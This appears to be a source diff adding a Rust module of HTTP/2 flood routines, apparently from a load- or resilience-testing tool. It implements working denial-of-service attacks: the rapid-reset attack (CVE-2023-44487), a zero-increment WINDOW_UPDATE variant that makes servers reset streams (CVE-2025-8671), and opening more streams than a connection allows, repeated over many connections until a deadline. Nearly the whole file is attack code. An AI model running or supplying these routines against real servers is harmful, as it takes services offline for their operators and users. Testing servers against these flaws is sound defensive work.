@@ -1,0 +1,91 @@
+//! Streams that are begun and given up, and more of them than there may be.
+
+use tokio::time::Instant;
+
+use super::{NOTICE, Report, Target, in_time, stream_ids};
+use crate::{
+    frames::{
+        CANCEL, DATA, END_HEADERS, END_STREAM, HEADERS, NONE, WINDOW_UPDATE, call, frame,
+        reset_stream,
+    },
+    wire::{Seen, Wire},
+};
+
+/// Streams of one connection at most, begun and given up.
+const STREAMS_MAX: u32 = 20_000;
+/// Streams that are written at once.
+const BURST_STREAMS: usize = 100;
+/// Streams of one connection that are held open.
+const HELD_STREAMS: u32 = 1_000;
+
+/// Begins calls and takes each back at once (CVE-2023-44487), on connection after connection.
+pub async fn rapid_reset(target: &Target, until: Instant) -> Report {
+    churn(target, until, |stream, block| {
+        [
+            frame(HEADERS, END_HEADERS, stream, block),
+            frame(DATA, END_STREAM, stream, &target.request),
+            reset_stream(stream, CANCEL),
+        ]
+        .concat()
+    })
+    .await
+}
+
+/// Makes the server give calls up by a mistake in each (CVE-2025-8671): a window that grows by nothing.
+pub async fn made_to_reset(target: &Target, until: Instant) -> Report {
+    churn(target, until, |stream, block| {
+        [
+            frame(HEADERS, END_HEADERS, stream, block),
+            frame(WINDOW_UPDATE, NONE, stream, &[0; 4]),
+        ]
+        .concat()
+    })
+    .await
+}
+
+async fn churn(
+    target: &Target,
+    until: Instant,
+    stream_of: impl Fn(u32, &[u8]) -> Vec<u8>,
+) -> Report {
+    let block = call(target.path, &target.token, &[]);
+    let mut report = Report::default();
+    while in_time(until) {
+        let Some(mut wire) = Wire::begin(target.address).await else {
+            continue;
+        };
+        let ids: Vec<u32> = stream_ids(STREAMS_MAX).collect();
+        let mut sent = 0;
+        for burst in ids.chunks(BURST_STREAMS) {
+            let bytes: Vec<u8> = burst
+                .iter()
+                .flat_map(|stream| stream_of(*stream, &block))
+                .collect();
+            if wire.seen().is_cut() || !in_time(until) || !wire.send(&bytes).await {
+                break;
+            }
+            sent += burst.len() as u64;
+        }
+        wire.sees(until + NOTICE, Seen::is_cut).await;
+        report.note(&wire, sent);
+    }
+    report
+}
+
+/// Begins more calls than a connection may hold, and ends none of them.
+pub async fn too_many(target: &Target, until: Instant) -> Report {
+    let block = call(target.path, &target.token, &[]);
+    let mut report = Report::default();
+    if let Some(mut wire) = Wire::begin(target.address).await {
+        let bytes: Vec<u8> = stream_ids(HELD_STREAMS)
+            .flat_map(|stream| frame(HEADERS, END_HEADERS, stream, &block))
+            .collect();
+        wire.send_until(&bytes, until).await;
+        wire.sees(until + NOTICE, |seen| {
+            seen.is_cut() || seen.answers + seen.resets.values().sum::<u64>() >= 1_000
+        })
+        .await;
+        report.note(&wire, u64::from(HELD_STREAMS));
+    }
+    report
+}
